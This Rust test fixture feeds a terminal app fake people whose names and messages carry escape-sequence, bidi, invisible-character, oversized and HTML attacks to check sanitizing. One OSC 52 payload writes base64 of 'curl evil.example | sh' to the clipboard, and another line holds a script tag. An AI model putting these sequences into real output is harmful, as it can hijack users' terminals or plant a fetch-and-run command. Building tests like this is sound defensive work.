//! Scenario `hostile`: people whose names and messages carry terminal-escape, control, bidi, invisible,
//! oversized and unknown-value attacks.
//!
//! Each attack sits in its own person (indices 1.. in order; "me", index 0, stays ordinary) so a
//! failing test names the attack. Mail and UPN stay ASCII: a name that sanitizes to nothing falls
//! back to the mail address.

use std::sync::LazyLock;

/// What a hostile person carries; `None` fields keep the generated value.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Hostile {
    pub name: Option<&'static str>,
    pub status: Option<&'static str>,
    pub out_of_office: Option<&'static str>,
    /// Values outside every documented set.
    pub availability: Option<&'static str>,
    pub activity: Option<&'static str>,
    pub location: Option<(&'static str, &'static str)>,
    /// Work location at the hostile place (its name is an attack too).
    pub evil_place: bool,
    /// Unknown properties and annotations next to the known ones.
    pub extra: bool,
    /// The element has wrong types: `availability` is a number.
    pub malformed: bool,
}

/// The place whose display name is an attack.
pub(crate) const PLACE_NAME: &str = "\u{1b}]0;place title\u{7}Evil Tower\u{1b}[2J";

static COMBINING: LazyLock<String> = LazyLock::new(|| {
    let mut s = String::from("Z");
    s.extend(std::iter::repeat_n('\u{0301}', 5_000));
    s.push_str("algo Combining");
    s
});

static ONE_MEGABYTE: LazyLock<String> = LazyLock::new(|| {
    let unit = "A status message that goes on and on. ";
    let mut s = String::with_capacity(1 << 20);
    while s.len() + unit.len() <= 1 << 20 {
        s.push_str(unit);
    }
    s
});

static NEWLINES: LazyLock<String> = LazyLock::new(|| {
    let mut s = String::from("Top line");
    s.push_str(&"\n".repeat(10_000));
    s.push_str("bottom line");
    s
});

static LONG_NAME: LazyLock<String> = LazyLock::new(|| "Very Long Name ".repeat(400));

/// The attack person `index` carries in the hostile scenario, if any.
pub(crate) fn hostile(index: u32) -> Option<Hostile> {
    let h = Hostile::default();
    Some(match index {
        // 1: OSC 0 / OSC 2 window title (BEL and ST terminated).
        1 => Hostile {
            name: Some("\u{1b}]0;PWNED\u{7}Mallory Title"),
            status: Some("\u{1b}]2;owned title\u{1b}\\Back at three"),
            ..h
        },
        // 2: OSC 52 clipboard write in the name, OSC 8 hyperlink in the message.
        2 => Hostile {
            name: Some("Clip\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} Board"),
            status: Some("\u{1b}]8;;https://evil.example/\u{1b}\\Click for cake\u{1b}]8;;\u{1b}\\"),
            ..h
        },
        // 3: clear screen, title report CSI 21t, device attribute and status queries.
        3 => Hostile {
            name: Some("\u{1b}[2J\u{1b}[HClear Screen"),
            status: Some("\u{1b}[21t\u{1b}[c\u{1b}[>0c\u{1b}[6n Report please"),
            ..h
        },
        // 3b: DCS, APC, PM and SOS strings.
        4 => Hostile {
            name: Some("\u{1b}P+q544e\u{1b}\\Dcs \u{1b}_apc payload\u{1b}\\Strings"),
            status: Some("\u{1b}^privacy message\u{1b}\\ and \u{1b}Xstart of string\u{1b}\\ done"),
            ..h
        },
        // 4: C1 controls: CSI, OSC and NEL in their one-character forms.
        5 => Hostile {
            name: Some("C1 \u{9b}31mRed\u{9b}0m \u{9d}0;c1 title\u{7}Controls"),
            status: Some("line one\u{85}line two \u{9b}2J"),
            ..h
        },
        // 5: bidi overrides, embeddings, isolates and marks.
        6 => Hostile {
            name: Some("Bidi \u{202e}gnp.exe\u{202c} \u{2066}isolate\u{2069}\u{200f}"),
            status: Some(
                "\u{202d}override\u{202c} \u{2067}rtl\u{2069} \u{202a}embed\u{202c}\u{61c}",
            ),
            ..h
        },
        // 6: a name of nothing but invisible characters: falls back to mail.
        7 => Hostile {
            name: Some("\u{200b}\u{200b}\u{feff}\u{200e}\u{200f}\u{e0041}\u{e007f}"),
            ..h
        },
        // 7: 5,000 combining marks on one letter, and a 1 MB message.
        8 => Hostile {
            name: Some(COMBINING.as_str()),
            status: Some(ONE_MEGABYTE.as_str()),
            ..h
        },
        // 7: 10,000 newlines; a name with line breaks.
        9 => Hostile {
            name: Some("Newline\nNed\r\nJones"),
            status: Some(NEWLINES.as_str()),
            ..h
        },
        // 8: wide CJK, fullwidth Latin and emoji with ZWJ sequences and flags.
        10 => Hostile {
            name: Some("👩🏽‍💻 王秀英 Ｗｉｄｅ 🇯🇵"),
            status: Some("🎉🎉🎉 全角テキストと絵文字 👨‍👩‍👧‍👦 ﷽"),
            ..h
        },
        // 10: values outside every documented set, plus unknown properties.
        11 => Hostile {
            name: Some("Unknown Values"),
            availability: Some("Teleporting"),
            activity: Some("InTheMultiverse"),
            location: Some(("moonBase", "telepathy")),
            evil_place: true,
            extra: true,
            ..h
        },
        // 9: one element of the batch answer with wrong types.
        12 => Hostile {
            name: Some("Malformed Element"),
            malformed: true,
            ..h
        },
        // HTML that decodes to escape sequences, and a script tag.
        13 => Hostile {
            name: Some("Html Entities"),
            out_of_office: Some(
                "<p>Away &amp; offline</p><p>&#27;]0;entity title&#7;&#x1b;[2J</p><script>alert(1)</script>",
            ),
            ..h
        },
        // NUL, DEL, tab, tag characters, line and paragraph separators.
        14 => Hostile {
            name: Some("Nul\u{0}l Del\u{7f}Tab\tTags\u{e0041}\u{e0042}"),
            status: Some("Para\u{2028}graph\u{2029}separators\u{0}\u{7}\u{8}"),
            ..h
        },
        // An absurdly long name.
        15 => Hostile {
            name: Some(LONG_NAME.as_str()),
            ..h
        },
        // Graphemes terminals measure differently: a flag, a skin tone, a presentation selector, and
        // Devanagari, Tamil and Thai vowel signs with a cell of their own.
        16 => Hostile {
            name: Some("🇯🇵 Aiko 👍🏽"),
            status: Some("दीपिका · கா · น้ำ 🇫🇷 ☀\u{fe0f}"),
            ..h
        },
        _ => return None,
    })
}
